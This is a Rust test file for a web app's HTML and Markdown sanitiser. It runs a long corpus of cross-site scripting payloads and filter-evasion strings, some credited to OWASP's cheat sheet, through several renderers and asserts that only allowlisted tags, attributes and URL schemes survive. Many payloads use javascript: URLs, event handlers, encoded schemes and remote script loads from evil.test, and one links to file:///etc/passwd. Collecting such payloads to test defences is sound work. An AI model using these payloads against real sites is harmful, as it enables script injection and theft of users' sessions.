//! A corpus of attacks: whatever is written, the page gets nothing but the tags, attributes and addresses it allows.

use super::super::post::POST;
use super::super::step::STEP;
use super::super::*;
use super::tags_in;

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</p><script>alert(1)</script><p>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" />",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>@import '//evil.test/x.css';</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a onmouseover=alert(1) href=/>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x]( javascript:alert(1) \"title\")",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.test/1)",
    "[x](//evil.test)",
    "[x](\\\\evil.test)",
    "[x](https:evil.test)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> \"onmouseover=alert(1)\"",
    "<javascript:alert(1)>",
    "<javascript://evil.test/%0Aalert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://example.org/y.png)",
    "![x](https://example.org/y.png\"onerror=\"alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "[x](https://example.org 'y\" onmouseover=\"alert(1)')",
    "[x\" onmouseover=\"alert(1)](https://example.org)",
    "https://example.org/\"onmouseover=alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "www.example.org/<img/src=x/onerror=alert(1)>",
    "mailto:a@example.org?body=<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "## x\" onclick=\"alert(1)",
    "::: try <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n:::",
    "::: x\" onclick=\"alert(1)\ny\n:::",
    "[^<script>alert(1)</script>] and [^a\" onclick=\"alert(1)]",
    "- [x\"onclick=alert(1)] y\n- [<] z",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "\u{feff}<script>alert(1)</script>",
    "<a href=\"https://example.org\">x</a><a name=x id=main class=app-head>y</a>",
    "[x](step:a/b\"onclick=\"alert(1))",
    "[x](#\"onclick=\"alert(1))",
    "[x](/\"><script>alert(1)</script>)",
    // What else OWASP's cheat sheet of ways round a filter has.
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097\">",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#x0A;ascript:alert(1))",
    "[x](jav&#x0D;ascript:alert(1))",
    "[x](java\u{0}script:alert(1))",
    "[x](&#14;  javascript:alert(1))",
    "<SCRIPT/XSS SRC=\"http://evil.test/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://evil.test/xss.js\"></SCRIPT>",
    "<SCRIPT SRC=http://evil.test/xss.js?< B >",
    "<SCRIPT SRC=//evil.test/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "\\\";alert('XSS');//",
    "</script><script>alert('XSS');</script>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "[x](livescript:alert(1))",
    "<svg/onload=alert('XSS')>",
    "Set.constructor`alert\\x28document.domain\\x29",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>BODY{-moz-binding:url(\"http://evil.test/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "\u{bc}script\u{be}alert(\u{a2}XSS\u{a2})\u{bc}/script\u{be}",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074'\\0029\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\">",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT>'\"-->",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<SCRIPT a=\">\" SRC=\"http://evil.test/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"http://evil.test/xss.js\"></SCRIPT>",
    "<A HREF=\"//www.evil.test/\">XSS</A>",
    "[x](h\ttp://6\t6.000146.0x7.147/)",
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    "<form><button formaction=javascript&colon;alert(1)>x",
    "<video poster=javascript:alert(1)//></video>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<a draggable=\"true\" ondragstart=alert(1)>x</a>",
    "<x onclick=alert(1) contenteditable>x</x>",
];

/// All texts that a person could write, as each of the three renderers shows them.
fn shown(text: &str) -> Vec<String> {
    let setting = Setting {
        sources: &["a".to_owned()],
        address: &|_| Some("../1/b".into()),
        picture: &|_| None,
        terms: None,
        is_passage: false,
    };
    vec![
        post_html(text).unwrap_or_default(),
        step_html(text, &setting).html,
        passage_html(text).html,
        inline_html(text),
        source_html(text, Some(text)),
    ]
}

const ATTRIBUTES: &[&str] = &[
    "href",
    "rel",
    "title",
    "start",
    "id",
    "class",
    "aria-label",
    "aria-hidden",
    "role",
    "tabindex",
    "scope",
    "src",
    "alt",
];
const TAGS: &[&str] = &[
    "a",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "img",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

fn assert_harmless(html: &str, from: &str) {
    for (name, attributes) in tags_in(html) {
        assert!(TAGS.contains(&name.trim_start_matches('/')), "<{name}> from {from:?} in {html}");
        for (key, value) in attributes {
            assert!(ATTRIBUTES.contains(&key.as_str()), "{key} from {from:?} in {html}");
            let address = value.trim_start().to_ascii_lowercase();
            let own =
                address.starts_with(['/', '#', '.']) || !address.split(['/', '?', '#']).next().unwrap().contains(':');
            let out = ["https:", "http:", "mailto:"].iter().any(|scheme| address.starts_with(scheme));
            assert!(!["href", "src"].contains(&key.as_str()) || own || out, "{value} from {from:?} in {html}");
        }
    }
}

#[test]
fn no_attack_gets_through() {
    assert!(ATTACKS.len() >= 60);
    for attack in ATTACKS {
        let around = [format!("> - {attack}"), format!("*a* {attack} `b`"), format!("x\n\n{attack}\n\ny")];
        for text in around.iter().map(String::as_str).chain([*attack]) {
            for html in shown(text) {
                assert_harmless(&html, text);
            }
            for (name, attributes) in tags_in(&post_html(text).unwrap_or_default()) {
                let strange =
                    attributes.iter().find(|(key, _)| !["href", "rel", "title", "start"].contains(&key.as_str()));
                assert!(name != "img" && !name.starts_with('h') || name == "hr", "{name} from {text:?}");
                assert_eq!(strange, None, "{text:?}");
            }
        }
    }
}

#[test]
fn what_is_clean_stays_as_it_is() {
    for attack in ATTACKS {
        let post = post_html(attack).unwrap_or_default();
        assert_eq!(POST.clean(&post).to_string(), post);
        let step = &shown(attack)[1];
        assert_eq!(STEP.clean(step).to_string(), *step);
    }
}

#[test]
fn attacks_mixed_at_random_do_not_get_through() {
    let mut dice = fastrand::Rng::with_seed(7);
    for _ in 0..500 {
        let mut text = String::new();
        for _ in 0..dice.usize(1..5) {
            let attack = ATTACKS[dice.usize(..ATTACKS.len())];
            let cut = attack.char_indices().map(|(i, _)| i).nth(dice.usize(..attack.chars().count())).unwrap_or(0);
            text += if dice.bool() { &attack[..cut] } else { &attack[cut..] };
            text += ["", "\n", "\n\n", " ", "\t", "> ", "- ", "::: try ", "|"][dice.usize(..9)];
        }
        for html in shown(&text) {
            assert_harmless(&html, &text);
        }
        let post = post_html(&text).unwrap_or_default();
        assert_eq!(POST.clean(&post).to_string(), post, "{text:?}");
    }
}

/// What does not show: turned text, letters without width, and a name that only looks like another.
#[test]
fn nothing_hides_where_a_link_leads() {
    for turned in ["\u{202e}", "\u{202d}", "\u{2067}", "\u{2066}"] {
        let html = post_html(&format!("See {turned}[gro.elpmaxe](https://evil.example/) now")).unwrap();
        assert!(!html.contains(turned) && html.contains("gro.elpmaxe</a> (evil.example)"), "{html}");
    }
    let thin = post_html("[www.evil.exam\u{200b}ple](https://evil.example/)").unwrap();
    assert!(thin.contains("</a> (evil.example)"), "{thin}");
    let arabic = "\u{645}\u{631}\u{62d}\u{628}\u{627} \u{200f}(1)\u{200f}";
    assert_eq!(post_html(arabic).unwrap(), format!("<p>{arabic}</p>\n"), "marks that Arabic needs stay");
    for alike in
        ["https://ex\u{430}mple.org/", "https://\u{ff45}xample.org@evil.example/", "https://exa\u{200b}mple.org/"]
    {
        let html = post_html(&format!("[example.org/help]({alike})")).unwrap();
        assert!(
            html.contains("</a> (xn--") || html.contains("</a> (evil.example)") || html.contains("</a></p>"),
            "{html}"
        );
    }
}

/// A line as long as a post may be, of whatever kind, is shown whole and at once.
#[test]
fn a_line_of_20_000_characters_is_a_line() {
    for piece in ["x", "é", "word ", "&", "\\", "\"", "*", "_", "~", "|", "x.y@z.org ", "https://example.org/a "] {
        let line = piece.repeat(20_000 / piece.chars().count());
        let html = post_html(&line).unwrap();
        assert_harmless(&html, piece);
        assert!(html.matches("<p>").count() <= 1, "{piece:?}: {:.80}", html);
    }
}
